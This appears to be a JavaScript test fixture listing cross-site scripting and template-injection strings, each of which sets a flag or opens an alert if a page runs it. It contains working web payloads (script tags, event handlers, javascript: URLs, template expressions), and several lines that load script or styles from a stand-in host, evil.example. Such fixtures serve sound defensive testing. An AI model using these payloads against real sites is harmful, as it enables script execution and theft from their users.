// Texts that run something, or change how a page looks, where a page does not treat them as text.
// Each sets `window.ran` or opens a dialog if it runs.
'use strict';

const run = 'window.ran=1';

module.exports = [
  `<script>${run}</script>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `</script><script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`, `<script src="data:text/javascript,${run}"></script>`, `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`, `"><img src=x onerror="${run}">`, `'><img src=x onerror='${run}'>`, `<img src="x" onerror="alert(1)">`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`, `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<form action=javascript:${run}><input type=submit>`,
  `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`, `<audio src onerror=${run}>`, `<body onload=${run}>`,
  `<marquee onstart=${run}>`, `<a href="javascript:${run}">x</a>`, `<template><script>${run}</script></template>`, `<!--><script>${run}</script>-->`,
  `<div style="background:url(//evil.example/x)">`, `" onmouseover="${run}`, `' onfocus='${run}' autofocus='`, `x" style="position:fixed;inset:0`,
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `data:text/html,<script>${run}</script>`, `//evil.example/x`, `vbscript:${run}`,
  `\${${run}}`, '`${window.ran=1}`', `{{constructor.constructor('${run}')()}}`, `{{${run}}}`, `#{${run}}`, `<%= ${run} %>`,
  `__proto__`, `constructor`, `&lt;script&gt;${run}&lt;/script&gt;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\u202E\u2066<script>${run}</script>\u2069`, `\u0000\u001b[31m\u0007\u200b\ufeff<img src=x onerror=${run}>`, `\u2028\u2029${run}//`,
  'A'.repeat(5000),
];
